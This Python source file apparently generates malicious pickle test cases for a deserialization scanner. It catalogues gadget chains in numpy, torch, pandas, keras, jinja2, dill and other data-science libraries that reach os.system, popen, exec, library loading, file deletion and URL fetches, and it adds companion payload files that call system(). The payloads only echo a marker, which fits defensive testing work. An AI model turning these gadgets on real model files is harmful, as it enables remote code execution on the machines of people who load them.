"""Attack shapes: pickles whose gadget is in a library that a data scientist has installed, or in its own state."""

from __future__ import annotations

from judge_kit import Folder, blob, build, call, instance, mapping, name, reduce, text, whole, zipped
from second_attacks_base import ARGV, CODE, ECHO, PY, URL, bad, method

CALLS = {
    "numpy-cpuinfo": ("numpy.distutils.cpuinfo", "getoutput", ECHO),
    "numpy-lib2def": ("numpy.distutils.lib2def", "getnm", ARGV),
    "numpy-exec-mod": ("numpy.distutils.misc_util", "exec_mod_from_location", "payload", "payload.py"),
    "numpy-f2py-compile": ("numpy.f2py", "compile", "end", "payload", ECHO),
    "numpy-diagnose": ("numpy.f2py.diagnose", "run_command", ECHO),
    "numpy-measure": ("numpy.testing", "measure", PY),
    "numpy-rundocs": ("numpy.testing", "rundocs", "payload.py"),
    "numpy-build-extension": (
        "numpy.testing._private.extbuild",
        "build_and_import_extension",
        "payload",
        [("run", "METH_NOARGS", 'system("echo assay-second");')],
    ),
    "numpy-savetxt": ("numpy", "savetxt", "/tmp/assay-second", [1]),
    "numpy-open-memmap": ("numpy.lib.format", "open_memmap", "/tmp/assay-second", "w+", "u1", [8]),
    "numpy-datasource": ("numpy.lib._datasource", "open", URL),
    "joblib-strided-memmap": (
        "joblib._memmapping_reducer",
        "_strided_from_memmap",
        *("/tmp/assay-second", "u1", "w+", 0, "C", (8,), None, None, False),
    ),
    "joblib-load-path": ("joblib.numpy_pickle", "load", "inner.bin"),
    "joblib-spawn-prepare": (
        "joblib.externals.loky.backend.spawn",
        "prepare",
        {"init_main_from_path": "payload.py", "name": "x"},
    ),
    "joblib-cloudpickle-subimport": ("joblib.externals.cloudpickle.cloudpickle", "subimport", "payload"),
    "pandas-read-pickle-url": ("pandas.io.pickle", "read_pickle", URL),
    "pandas-read-html": ("pandas.io.html", "read_html", URL),
    "pandas-read-xml": ("pandas.io.xml", "read_xml", "payload.xml"),
    "pandas-get-handle": ("pandas.io.common", "get_handle", "/tmp/assay-second", "w"),
    "pandas-backend": ("pandas.plotting._core", "_get_plot_backend", "payload"),
    "pandas-core-eval": ("pandas.core.computation.eval", "eval", f"@{CODE}"),
    "sklearn-run-script": ("sklearn.utils._testing", "assert_run_python_script_without_output", PY),
    "sklearn-compile-test": (
        "sklearn._build_utils.pre_build_helpers",
        "compile_test_program",
        'int main() { return system("echo assay-second"); }',
    ),
    "sklearn-openml": ("sklearn.datasets._openml", "_open_openml_url", URL, None),
    "scipy-netcdf": ("scipy.io", "netcdf_file", "/tmp/assay-second", "w"),
    "statsmodels-load": ("statsmodels.iolib.smpickle", "load_pickle", "inner.bin"),
    "torch-run-script": ("torch.distributed.run", "run_script_path", "payload.py"),
    "torch-test-shell": ("torch.testing._internal.common_utils", "shell", ARGV),
    "torch-run-compile": ("torch._inductor.cpp_builder", "run_compile_cmd", ECHO, "."),
    "torch-hub-module": ("torch.hub", "_import_module", "payload", "payload.py"),
    "torch-hub-download": ("torch.hub", "download_url_to_file", URL, "/tmp/assay-second"),
    "torch-state-url": ("torch.hub", "load_state_dict_from_url", URL),
    "torch-forward-src": ("torch.fx.graph_module", "_forward_from_src", PY, {}),
    "torch-exec-source": ("torch.fx.graph_module", "_exec_with_source", PY, {}),
    "torch-reload-module": ("torch._inductor.runtime.compile_tasks", "_reload_python_module", "k", "payload.py"),
    "torch-extension": ("torch.utils.cpp_extension", "load", "payload", ["payload.cpp"]),
    "torch-extension-import": ("torch.utils.cpp_extension", "_import_module_from_library", "payload", ".", True),
    "torch-classes-library": ("torch", "classes.load_library", "./libpayload.so"),
    "torch-ops-library": ("torch", "ops.load_library", "./libpayload.so"),
    "torch-package-importer": ("torch.package", "PackageImporter", "payload.pt"),
    "torch-jit-load": ("torch.jit", "load", "payload.pt"),
    "torch-subprocess": (
        "torch.distributed.elastic.multiprocessing.subprocess_handler.subprocess_handler",
        "SubprocessHandler",
        *("echo", ("assay-second",), {}, None, None, 0),
    ),
    "tensorflow-write-file": ("tensorflow.python.lib.io.file_io", "write_string_to_file", "/tmp/assay-second", "x"),
    "tensorflow-delete": ("tensorflow.python.lib.io.file_io", "delete_recursively_v2", "/tmp/assay-second"),
    "tensorflow-op-library": ("tensorflow.python.framework.load_library", "load_op_library", "./libpayload.so"),
    "tensorflow-cli-eval": (
        "tensorflow.python.tools.saved_model_cli",
        "preprocess_input_exprs_arg_string",
        f"x={CODE}",
        False,
    ),
    "tensorflow-load-source": ("tensorflow.python.autograph.pyct.loader", "load_source", PY, False),
    "keras-func-load": ("keras.src.utils.python_utils", "func_load", "4wAAAAAAAAAA"),
    "keras-unsafe-switch": ("keras.src.saving.serialization_lib", "enable_unsafe_deserialization"),
    "keras-get-file": ("keras.src.utils.file_utils", "get_file", "payload", URL),
    "transformers-subprocess": ("transformers.testing_utils", "execute_subprocess_async", ARGV),
    "transformers-direct-import": ("transformers.utils.import_utils", "direct_transformers_import", "payload"),
    "transformers-class-in-module": ("transformers.dynamic_module_utils", "get_class_in_module", "M", "payload.py"),
    "hub-download": ("huggingface_hub", "snapshot_download", "assay-second/none"),
    "dill-filehandle": (
        "dill._dill",
        "_create_filehandle",
        *("/tmp/assay-second", "w", 0, False, None, False, 1, "x"),
    ),
    "dill-load-source": ("dill.temp", "load_source", "payload.py"),
    "dill-session": ("dill.session", "load_module", "inner.bin"),
    "pil-imagemath": ("PIL.ImageMath", "eval", CODE),
    "pil-imagemath-unsafe": ("PIL.ImageMath", "unsafe_eval", CODE),
    "requests-post": ("requests", "post", URL, "assay-second"),
    "httpx-get": ("httpx", "get", URL),
    "psutil-popen": ("psutil", "Popen", ARGV),
    "pexpect-run": ("pexpect", "run", ECHO),
    "invoke-run": ("invoke", "run", ECHO),
    "sh-module": ("sh", "echo", "assay-second"),
    "ipython-getoutput": ("IPython.utils.process", "getoutput", ECHO),
    "ipython-system": ("IPython.utils._process_posix", "system", ECHO),
    "matplotlib-subprocess": ("matplotlib.testing", "subprocess_run_for_testing", ARGV),
    "mako-template": ("mako.template", "Template", f"<%! {CODE} %>"),
    "sqlalchemy-serializer": ("sqlalchemy.ext.serializer", "loads", bad(2)),
    "alembic-load-file": ("alembic.util.pyfiles", "load_module_py", "payload", "payload.py"),
    "alembic-config": ("alembic.config", "main", ["upgrade", "head"]),
    "networkx-gpickle": ("networkx.readwrite.gpickle", "read_gpickle", "inner.bin"),
    "sympy-lambdify": ("sympy.utilities.lambdify", "lambdify", [], CODE),
    "spacy-run-command": ("spacy.util", "run_command", ECHO),
    "gensim-unpickle": ("gensim.utils", "unpickle", "inner.bin"),
    "nltk-data": ("nltk.data", "load", "file:inner.pickle"),
    "fastcore-run": ("fastcore.xtras", "run", ECHO),
    "mlflow-load": ("mlflow.pyfunc", "load_model", "inner"),
    "mlflow-exec": ("mlflow.utils.process", "_exec_cmd", ARGV),
    "ray-runtime": ("ray.cloudpickle", "loads", bad(2)),
    "distributed-loads": ("distributed.protocol.pickle", "loads", bad(3)),
    "srsly-loads": ("srsly", "pickle_loads", bad(3)),
    "numba-unpickle": ("numba.core.serialize", "_numba_unpickle", 1, bad(4), None),
    "git-clone": ("git.repo.base", "Repo.clone_from", f"ext::sh -c '{ECHO}'", "/tmp/assay-second"),
    "hydra-get-object": ("hydra.utils", "get_object", "payload.Model"),
    "fsspec-open": ("fsspec.core", "open", "simplecache::" + URL),
}
"""Each value is (module, attribute, arguments…)."""

LAMBDA = {
    "module": "keras",
    "class_name": "Sequential",
    "registered_name": None,
    "config": {
        "name": "m",
        "layers": [
            {
                "module": "keras.layers",
                "class_name": "Lambda",
                "registered_name": None,
                "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": "4wAAAAAA"}}},
            }
        ],
    },
}


def state_gadgets() -> dict[str, bytes]:
    """Classes of the allow-lists of everybody whose own __setstate__ or helper runs what the state says."""
    template = f"def _parse_args(self, x={CODE}):\n    return (), 0, 1\n"
    norm = build(instance("scipy.stats._continuous_distns", "norm_gen"), mapping(_parse_arg_template=text(template)))
    formula = mapping(
        restore_design_info=b"\x88", formula=text(f"y ~ I({CODE})"), frame=b"}", orig_endog=b"N", orig_exog=b"N"
    )
    newer = mapping(restore_model_spec=b"\x88", formula=text(f"y ~ {{{CODE}}}"), frame=b"}")
    wrapper = instance("torch.utils.data.datapipes.datapipe", "_IterDataPipeSerializationWrapper")
    from_module = call("numpy.core", "_ufunc_reconstruct", "posix", "system")
    newer_module = call("numpy._core", "_ufunc_reconstruct", "subprocess", "getoutput")
    generator = reduce(
        name("numpy.random._pickle", "__generator_ctor"),
        text(ECHO),
        call("numpy.core", "_ufunc_reconstruct", "os", "popen"),
    )
    optional = call("pandas.compat._optional", "import_optional_dependency", "os")
    return {
        "scipy-parse-template": norm,
        "statsmodels-formula-state": build(instance("statsmodels.base.data", "PandasData"), formula),
        "statsmodels-model-spec": build(instance("statsmodels.base.data", "PandasData"), newer),
        "torch-datapipe-state": build(wrapper, b"\x89" + blob(bad(2)) + b"\x86"),
        "numpy-ufunc-system": reduce(from_module, text(ECHO)),
        "numpy-ufunc-newer": reduce(newer_module, text(ECHO)),
        "numpy-ufunc-unused": call("numpy.core", "_ufunc_reconstruct", "payload", "run"),
        "numpy-generator-ctor": generator,
        "pandas-optional-import": reduce(reduce(name("builtins", "getattr"), optional, text("system")), text(ECHO)),
        "scipy-nonlin-wrapper": reduce(
            name("scipy.optimize._nonlin", "_nonlin_wrapper"),
            text(f"f(x={CODE}): pass\ndef g"),
            name("scipy.optimize._nonlin", "BroydenFirst"),
        ),
        "scipy-argparser": reduce(
            name("scipy.stats._distn_infrastructure", "rv_generic._construct_argparser"),
            instance("scipy.stats._continuous_distns", "norm_gen"),
            b"]",
            text(f"loc={CODE}"),
            text("loc, 1"),
        ),
    }


def instance_gadgets() -> dict[str, bytes]:
    """Library functions that load, render or run what they are handed."""
    return {
        "torch-decoder": call("torch.utils.data.datapipes.utils.decoder", "basichandlers", "pickle", bad(2)),
        "torch-from-type": reduce(
            name("torch._tensor", "_rebuild_from_type_v2"),
            name("posix", "popen"),
            name("torch._tensor", "Tensor"),
            text(ECHO) + b"\x85",
            b"N",
        ),
        "jinja2-render": method(
            ("jinja2", "Template"),
            "render",
            call("jinja2", "Template", "{{ cycler.__init__.__globals__.os.popen('" + ECHO + "').read() }}"),
        ),
        "keras-lambda-in-pickle": reduce(
            name("keras.src.saving.keras_saveable", "KerasSaveable._unpickle_model"),
            call("_io", "BytesIO", keras_archive()),
        ),
        "keras-model-in-pickle": call(
            "keras.src.saving.pickle_utils", "deserialize_model_from_bytecode", keras_archive()
        ),
        "torch-benchmark-run": method(
            ("torch.utils.benchmark", "Timer"), "timeit", call("torch.utils.benchmark", "Timer", PY), 1
        ),
        "git-execute": method(("git.cmd", "Git"), "execute", call("git.cmd", "Git"), ARGV),
        "ipython-run-cell": method(
            ("IPython.core.interactiveshell", "InteractiveShell"),
            "run_cell",
            call("IPython.core.interactiveshell", "InteractiveShell"),
            f"!{ECHO}",
        ),
        "pandas-query": method(
            ("pandas.core.frame", "DataFrame"), "query", call("pandas.core.frame", "DataFrame"), f"@{CODE}"
        ),
        "pandas-to-csv": method(
            ("pandas.core.frame", "DataFrame"), "to_csv", call("pandas.core.frame", "DataFrame"), "/tmp/assay-second"
        ),
        "numpy-tofile": method(("numpy", "ndarray"), "tofile", call("numpy", "zeros", 4), "/tmp/assay-second"),
    }


def keras_archive() -> bytes:
    """A .keras file with a Lambda layer."""
    meta = b'{"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"}'
    return zipped(
        {"metadata.json": meta, "config.json": repr(LAMBDA).replace("'", '"').replace("None", "null").encode()}
    )


def shapes() -> dict[str, Folder]:
    """The pickles of this part; files that they name lie beside them."""
    made: dict[str, Folder] = {}
    table = {k: call(v[0], v[1], *v[2:]) for k, v in CALLS.items()} | state_gadgets() | instance_gadgets()
    beside = {
        b"payload.py": ("payload.py", f"import os\n\nos.system({ECHO!r})\n".encode()),
        b"inner.bin": ("inner.bin", bad(2)),
        b"inner.pickle": ("inner.pickle", bad(2)),
        b"payload.cpp": ("payload.cpp", b'#include <cstdlib>\nstatic int x = system("echo assay-second");\n'),
    }
    endings = ("estimator.pkl", "vectorizer.joblib", "weights.pt", "features.p", "state.ckpt")
    for number, (key, code) in enumerate(sorted(table.items())):
        protocol = 4 + number % 2 if b"\x93" in code else 2 + number % 4
        folder = {endings[number % 5]: whole(code, protocol)}
        folder |= {path: data for mark, (path, data) in beside.items() if mark in code}
        made[f"pickle-gadget--{key}"] = folder
    return made


__all__ = ["shapes"]
